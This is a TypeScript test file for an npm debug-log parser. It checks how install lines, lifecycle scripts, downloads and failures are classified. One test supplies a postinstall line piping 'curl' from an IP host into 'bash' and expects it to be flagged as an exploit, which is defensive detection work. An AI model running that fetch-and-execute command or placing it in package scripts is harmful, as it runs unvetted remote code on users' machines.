import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { draftsOf } from '../../../test/logs.ts'
import { npmLog } from './npm-log.ts'

const path = '/root/.npm/_logs/2026-11-22T01_19_13_361Z-debug-0.log'
const told = (...lines: string[]) =>
  draftsOf(npmLog, path, ...lines).map(d =>
    [d.verb, d.outcome, d.user, d.package, d.method, d.command, d.url].filter(x => x !== undefined).join(' '),
  )

/** Of npm 11.19 and npm 6. */
const lines = [
  '0 verbose cli /usr/bin/node /usr/bin/npm',
  '1 info using npm@11.19.1',
  '8 verbose argv "install" "../colour-helper-1.4.1.tgz"',
  '15 silly fetch manifest colour-helper@file:../colour-helper-1.4.1.tgz',
  '16 silly placeDep ROOT colour-helper@1.4.1 OK for: app@1.0.0 want: file:../colour-helper-1.4.1.tgz',
  '18 http fetch GET 200 https://registry.npmjs.org/ms/-/ms-2.1.3.tgz 31ms (cache miss)',
  '18 http fetch GET 200 http://198.51.100.5/x.tgz 31ms (cache miss)',
  '19 info run colour-helper@1.4.1 preinstall node_modules/colour-helper echo pre',
  '20 info run colour-helper@1.4.1 preinstall { code: 0, signal: null }',
  `21 info run @a/colour-helper@1.4.1 postinstall node_modules/@a/colour-helper node -e "console.log('post')"`,
  '22 info run colour-helper@1.4.1 postinstall { code: 3, signal: null }',
  '23 silly ADD node_modules/colour-helper',
  '30 info lifecycle rc@1.2.9~preinstall: rc@1.2.9',
]

test('what was put in and which scripts ran', () => {
  assert.deepEqual(told(...lines), [
    'package success root command npm install ../colour-helper-1.4.1.tgz',
    'package root colour-helper@1.4.1 install',
    'download root http://198.51.100.5/x.tgz',
    'package root colour-helper@1.4.1 preinstall echo pre',
    `package root @a/colour-helper@1.4.1 postinstall node -e "console.log('post')"`,
    'error failure root colour-helper@1.4.1 postinstall',
    'package root colour-helper added',
    'package root rc@1.2.9 preinstall',
  ])
  assert.deepEqual(draftsOf(npmLog, path, lines[7]!)[0]?.time, { ms: Date.UTC(2026, 10, 22, 1, 19, 13, 361), zoned: true, grain: 300 })
})

test('a script that is an attack by what it says', () => {
  assert.deepEqual(told('19 info run x@1.0.0 postinstall node_modules/x curl -s http://198.51.100.5/a.sh | bash'), [
    'exploit root x@1.0.0 postinstall curl -s http://198.51.100.5/a.sh | bash',
  ])
})

test('near misses, and a line that a package prints', () => {
  assert.deepEqual(
    told(
      '24 warn install-scripts   colour-helper@1.4.1 (preinstall: echo pre)',
      'info run evil@1.0.0 postinstall a b',
      '24 error 21 info run evil@1.0.0 postinstall a b',
      '24 verbose stack run x',
    ),
    [],
  )
  assert.ok(npmLog.recognise(`${lines.join('\n')}\n`, 'x') > 0.9)
})

test('property: any text, no throw', () => {
  const piece = fc.oneof(fc.string({ maxLength: 60 }), fc.constantFrom(...npmLog.needles, '1 info', '@1.0.0 '))
  fc.assert(fc.property(fc.array(piece, { maxLength: 8 }), pieces => void [...npmLog.open({ path, user: '' }).line(pieces.join(''))]))
})
